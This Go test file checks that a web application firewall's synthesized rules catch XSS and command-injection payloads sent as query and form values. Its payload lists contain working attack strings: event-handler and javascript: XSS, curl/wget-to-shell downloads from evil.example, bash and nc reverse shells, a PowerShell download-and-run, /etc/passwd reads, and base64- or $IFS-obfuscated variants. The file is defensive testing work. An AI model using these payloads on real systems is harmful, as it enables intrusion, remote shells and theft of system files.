package wafsynth

import (
	"net/url"
	"testing"

	"github.com/cfplane/cfplane/pkg/rules"
	"github.com/cfplane/cfplane/pkg/wafreplay"
)

// Attack grammar from public references rather than from the CRS tests
// the rules are measured on: the shapes of PortSwigger's XSS cheat sheet
// (https://portswigger.net/web-security/cross-site-scripting/cheat-sheet),
// OWASP's XSS Filter Evasion Cheat Sheet
// (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html)
// and PayloadsAllTheThings' Command Injection page
// (https://github.com/swisskyrepo/PayloadsAllTheThings/tree/master/Command%20Injection),
// written here by construct (handler on any tag, namespaces, javascript:
// with entities and whitespace, srcdoc, expression(), template-literal
// calls, data: URLs; separators before commands, substitution, $IFS,
// redirections, downloads into a shell, glob paths, split words, variables
// spliced into words). Each is sent as a query value and, on Enterprise,
// as a form value.
var grammarCases = map[string][]string{
	ClassXSS: {
		`<details open ontoggle=alert(1)>`,
		`<custom-tag onfocus=alert(1) autofocus tabindex=1>`,
		`<xss onpointerenter=print()>`,
		`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
		`<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`,
		`<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>`,
		`<a href="jav&#x09;ascript:alert(1)">x</a>`,
		`<a href="&#106;avascript:alert(1)">x</a>`,
		`<a href=" javascript:alert(1)">x</a>`,
		`<a href="java	script:alert(1)">x</a>`,
		`<a href=javascript&colon;alert(1)>x</a>`,
		`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
		`<div style="width:expression(alert(1))">`,
		"alert`1`",
		"<img src=x onerror=alert`1`>",
		`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
		`<iframe src="https://evil.example/x"></iframe>`,
		`<object data="javascript:alert(1)">`,
		`<embed src="data:text/html,<script>alert(1)</script>">`,
		`"><img src=x onerror=alert(1)>`,
		`" autofocus onfocus="alert(1)`,
		`' onmouseover='alert(1)`,
		`';alert(1)//`,
		`'-alert(1)-'`,
		`\";alert(1)//`,
		`window['al'+'ert'](1)`,
		`top["al"+"ert"](1)`,
		`[1].find(alert)`,
		`onerror=alert;throw 1`,
		`<svg><script href=data:,alert(1) />`,
		`<form><button formaction=javascript:alert(1)>x</button></form>`,
		`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
		`<style>@import 'https://evil.example/x.css';</style>`,
		`<img src=1 onerror=\u0061lert(1)>`,
		`<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">`,
		`eval(atob('YWxlcnQoMSk='))`,
		`Function("alert(1)")()`,
		`import('//evil.example/x.js')`,
		`{{constructor.constructor('alert(1)')()}}`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
		`<svg onload=setTimeout('alert(1)')>`,
		`<body onpageshow=alert(1)>`,
		`<video><source onerror=alert(1)></video>`,
		`valueOf=alert;window+''`, `throw onerror=alert,1`, "[].sort.call`${alert}1`", `x={[Symbol.hasInstance]:eval};1 instanceof x`, `[][(![]+[])[+[]]]`,
		`javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
	},
	ClassRCE: {
		`;id`, `|id`, `||id`, `&&id`, `&id&`, "`id`", `$(id)`, "\nid\n",
		`;cat${IFS}/etc/passwd`, `;cat$IFS$9/etc/passwd`, `;{cat,/etc/passwd}`,
		`;/???/c?t /???/p??s??`, `;/bin/c'a't /etc/passwd`, `;c''at /etc/passwd`, `;c\at /etc/passwd`, `;w'h'o'am'i`, `;wh$()oami`, `;who$@ami`,
		`; curl http://evil.example/x.sh | sh`, `; wget -O- http://evil.example/x | bash`, `;bash -i >& /dev/tcp/10.0.0.1/4242 0>&1`,
		`;nc -e /bin/sh 10.0.0.1 4242`, `;sleep 5`, `| ping -c 10 127.0.0.1`,
		`$(printf 'hsab/nib/ e- 4242 1.0.0.01 cn'|rev)`, `;echo aWQ= | base64 -d | sh`, `a=c;b=at;$a$b /etc/passwd`,
		`;x=$'\x63\x61\x74';$x /etc/passwd`, `;$(echo Y2F0IC9ldGMvcGFzc3dk|base64 -d)`,
		`& type C:\Windows\win.ini`, `| dir c:\`, `&& powershell -c "iex(iwr http://evil.example/x)"`,
		`;ls>/tmp/x`, `;id>/var/www/html/x.txt`, `;cat</etc/passwd`, `$(</etc/passwd)`, `;cat /e*c/p*d`, `;cat /et?/pa??wd`,
		`; python -c 'import os;os.system("id")'`, `; perl -e 'exec "/bin/sh"'`, `;${PATH:0:1}bin${PATH:0:1}sh`,
		`; whoami #`, `0|whoami`, `;{ls,-la}`, `;uname${IFS}-a`, `127.0.0.1; nslookup evil.example`,
	},
}

func TestPublicGrammar(t *testing.T) {
	for _, plan := range []rules.Plan{rules.PlanBusiness, rules.PlanEnterprise} {
		progs := classPrograms(t, plan)
		for class, cases := range grammarCases {
			for _, c := range cases {
				reqs := map[string]wafreplay.Request{"query": browserGet("/search", "q="+url.QueryEscape(c))}
				if plan == rules.PlanEnterprise {
					reqs["form"] = browserPost("application/x-www-form-urlencoded", "name=Jane&comment="+url.QueryEscape(c))
				}
				for where, r := range reqs {
					rq, err := wafreplay.PrepareFor(r, plan)
					if err != nil {
						t.Fatal(err)
					}
					if !progs[class].Eval(rq, nil) {
						t.Errorf("%s/%s misses %q in the %s", class, plan, c, where)
					}
				}
			}
		}
	}
}
